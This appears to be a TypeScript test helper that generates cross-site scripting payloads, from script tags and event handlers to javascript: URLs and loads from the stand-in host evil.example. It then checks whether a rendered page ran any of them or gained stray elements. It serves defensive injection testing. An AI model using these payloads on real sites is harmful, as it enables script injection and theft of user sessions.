/** The contexts that a malicious text has to break out of. */
const WAYS_OUT = [
  ...['', '">', "'>", '-->', ']]>', '</b>', '</title>', '</style>', '</textarea>'],
  ...['</template>', '</svg>', '</script>', '{{', '\\'],
];

/** The payloads: run `ran()`, load something foreign, or take a name in the page. */
const SCRIPTS = [
  '<script>ran()</script>',
  '<script src=//evil.example>',
  '<img src=x onerror=ran()>',
  '<svg onload=ran()>',
  '<svg><animate onbegin=ran()>',
  '<iframe srcdoc="<svg onload=ran()>">',
  '<iframe src=javascript:ran()>',
  '<object data=//evil.example>',
  '<embed src=//evil.example>',
  '<a href="javascript:ran()">x</a>',
  '<details open ontoggle=ran()>',
  '<input autofocus onfocus=ran()>',
  '<audio src=x onerror=ran()>',
  '<video src=//evil.example>',
  '<style>@import "//evil.example"</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content=0>',
  '<math href=javascript:ran()>x',
  '<form id=forms name=body>',
  '" onmouseover="ran()" x="',
  "' onfocus='ran()' autofocus='",
  'javascript:ran()',
  '${ran()}{{ran()}}',
];

/** As it is, as if somebody had escaped it once, and with signs that only look so. */
const SPELLINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll('<', '&lt;').replaceAll('"', '&quot;'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
];

/** The longest name that packs may have. */
const LONGEST = 60;

/**
 * Malicious texts that try to run scripts where a name or a sentence is shown. A page on which
 * one of them succeeds calls `ran()`; {@link watchForScripts} reports it.
 */
export const XSS_STRINGS: readonly string[] = SPELLINGS.flatMap((spell) =>
  WAYS_OUT.flatMap((out) => SCRIPTS.map((script) => spell(out + script))),
).filter((text) => text.length <= LONGEST);

/** Elements that no element of ours is made of. */
const STRAY =
  'script, img, iframe, object, embed, audio, video, link, base, meta, math, animate, form[id=forms]';

/** Reports whether a malicious text ran on a page. */
export interface ScriptWatch {
  /** Scripts that ran, and elements and attributes that only these texts can have added. */
  found(element: Element): readonly string[];
}

/** Begins to watch; what was on the page before is no text's doing. */
export function watchForScripts(): ScriptWatch {
  const found: string[] = [];
  Object.assign(window, { ran: () => void found.push('a script ran') });
  const outside = [...document.querySelectorAll('*')];
  const { title } = document;
  const violated = (event: SecurityPolicyViolationEvent) =>
    void found.push(`${event.violatedDirective} of ${event.blockedURI}`);
  document.addEventListener('securitypolicyviolation', violated);
  return {
    found(element) {
      document.removeEventListener('securitypolicyviolation', violated);
      if (document.title !== title) found.push('the page has another title');
      for (const each of document.querySelectorAll('body *'))
        if (each !== element && !outside.includes(each) && !element.contains(each))
          found.push(`<${each.localName}> in the page`);
      for (const { name } of performance.getEntriesByType('resource'))
        if (name.includes('evil.example') || name.endsWith('/x')) found.push(`${name} was loaded`);
      return [...new Set([...found, ...strayIn(element)])];
    },
  };
}

function strayIn(root: Element | ShadowRoot): readonly string[] {
  const inside = [...root.querySelectorAll('*')];
  return [
    ...inside.filter((each) => each.matches(STRAY)).map((each) => `<${each.localName}> inside`),
    ...inside.flatMap((each) =>
      [...each.attributes].flatMap((attribute) => strayAttribute(attribute)),
    ),
    ...[root, ...inside].flatMap((each) =>
      each instanceof Element && each.shadowRoot ? strayIn(each.shadowRoot) : [],
    ),
  ];
}

/** Handlers, addresses that run or lead away, and texts where the page looks things up by name. */
function strayAttribute({ name, value }: Attr): readonly string[] {
  const runs = name.startsWith('on');
  const leads = /^(?:href|src|action|formaction|xlink:href|data)$/.test(name);
  const names = /^(?:id|name|class|style|for|part|slot)$/.test(name);
  const isWrong =
    runs ||
    (leads && /^\s*javascript:|evil\.example/i.test(value)) ||
    (names && /[<>{]|ran\(\)|evil/.test(value));
  return isWrong ? [`${name}="${value}"`] : [];
}

/** Touches everything that is shown, so that whatever waits for that would run. */
export function hoverEverything(element: Element): void {
  for (const root of [element, element.shadowRoot]) {
    for (const each of root?.querySelectorAll('*') ?? []) {
      for (const type of ['mouseover', 'pointerenter', 'focus', 'toggle', 'load', 'error'])
        each.dispatchEvent(new Event(type));
    }
  }
}

/** A copy of plain data in which every text that is shown is another of the hostile ones. */
export function withXssStrings(data: unknown, from: number): unknown {
  let next = from;
  const isShown = (key: string) => ['en', 'fr', 'author', 'licence'].includes(key);
  const text = JSON.stringify(data, (key, value: unknown) =>
    typeof value === 'string' && isShown(key) ? XSS_STRINGS[next++ % XSS_STRINGS.length] : value,
  );
  return JSON.parse(text);
}
